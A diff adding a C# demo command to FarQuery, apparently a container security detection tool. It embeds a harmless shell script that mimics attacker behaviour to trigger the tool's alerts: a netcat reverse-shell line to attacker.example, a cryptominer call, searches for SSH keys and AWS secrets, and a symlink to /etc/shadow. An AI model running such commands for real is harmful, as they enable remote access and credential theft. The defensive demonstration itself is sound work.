@@ -1,0 +1,38 @@
+// SPDX-License-Identifier: Apache-2.0
+using System.CommandLine;
+using FarQuery.Cli.Agent;
+using FarQuery.Events.Tracing;
+
+namespace FarQuery.Cli.Commands;
+
+/// <summary><c>farquery demo</c>: <c>farquery run</c> with the embedded packs around a short script that does what
+/// attackers do in a container (all inside a temporary directory, undone at the end), so the detections print to stdout
+/// on any machine with a shell.</summary>
+internal static class DemoCommand
+{
+    /// <summary>The demo workload: each line trips one bundled detection, and cleans up after itself.</summary>
+    internal const string Script = """
+        set +e
+        d=$(mktemp -d /tmp/farquery-demo.XXXXXX)
+        cd "$d"
+        echo "== farquery demo: suspicious actions in $d" >&2
+        cp /bin/true /dev/shm/farquery-demo-payload && /dev/shm/farquery-demo-payload; rm -f /dev/shm/farquery-demo-payload
+        touch tool && chmod u+s tool
+        cp /bin/true ./xmrig && ./xmrig -o stratum+tcp://pool.example:3333
+        cp /bin/true ./nc && ./nc -e /bin/sh attacker.example 4444
+        find "$d" -maxdepth 1 -name id_rsa
+        grep -r "aws_secret_access_key" "$d" 2>/dev/null
+        ln -s /etc/shadow shadow_link
+        : > syslog && truncate -s0 syslog
+        echo "== done" >&2
+        cd / && rm -rf "$d"
+        """;
+
+    /// <summary>Builds the verb.</summary>
+    public static Command Create()
+    {
+        var command = new Command("demo", "Run the bundled detections around a demo workload and print the alerts (JSON lines)");
+        command.SetAction(_ => RunCommand.Run(["/bin/sh", "-c", Script], new TracerOptions(), printEvents: false, new AgentOptions { NoAdminSocket = true }));
+        return command;
+    }
+}
